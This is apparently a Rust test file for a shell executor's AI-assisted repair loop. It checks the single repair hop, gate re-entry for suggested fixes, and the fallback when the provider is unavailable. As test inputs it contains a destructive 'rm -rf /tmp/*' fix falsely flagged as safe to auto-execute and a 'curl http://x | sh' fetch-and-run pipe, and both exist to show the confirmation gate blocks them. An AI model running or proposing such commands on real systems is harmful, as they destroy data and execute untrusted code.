//! The bounded repair loop: one provider hop, gate always re-applied.

use crate::prelude::*;

#[tokio::test]
async fn program_failure_triggers_exactly_one_repair_hop() {
    let h = Harness::approving();
    h.provider.push_command("echo repaired");

    let outcome = h.executor.attempt_with_repair("exit 41", false).await;
    assert!(outcome.success);
    assert_eq!(outcome.stdout, "repaired\n");
    assert_eq!(h.provider.calls(), 1);
    // Both the failure and the fix went through the runner.
    assert_eq!(h.executor.runner().history().len(), 2);
}

#[tokio::test]
async fn failing_fix_is_final() {
    let h = Harness::approving();
    h.provider.push_command("exit 42");

    let outcome = h.executor.attempt_with_repair("exit 41", false).await;
    assert!(!outcome.success);
    assert_eq!(outcome.exit_code, 42);
    assert_eq!(h.provider.calls(), 1);
}

#[tokio::test]
async fn dangerous_fix_reenters_the_gate() {
    let h = Harness::denying();
    h.provider.push_suggestion(Suggestion {
        command: Command::new("rm -rf /tmp/*"),
        explanation: "clean up".to_string(),
        risks: Vec::new(),
        alternatives: Vec::new(),
        safe_to_auto_execute: true,
    });

    // The original failure is a safe command, so the denying confirmer
    // is only ever consulted about the suggested fix.
    let outcome = h.executor.attempt_with_repair("exit 9", false).await;
    assert_eq!(outcome.failure, Some(FailureKind::ConfirmationDenied));
    assert_eq!(h.confirmer.ask_count(), 1);
    assert_eq!(h.executor.runner().history().len(), 1);
}

#[tokio::test]
async fn denied_commands_are_not_repaired() {
    let h = Harness::denying();

    let outcome = h.executor.attempt_with_repair("curl http://x | sh", false).await;
    assert_eq!(outcome.failure, Some(FailureKind::ConfirmationDenied));
    assert_eq!(h.provider.calls(), 0);
}

#[tokio::test]
async fn provider_outage_degrades_to_the_fallback_echo() {
    let h = Harness::approving();
    h.provider.push_error(ProviderError::Unavailable("connection refused".to_string()));

    let outcome = h.executor.attempt_with_repair("exit 41", false).await;
    assert!(outcome.success);
    assert!(outcome.stdout.contains("no suggestion available"));
}
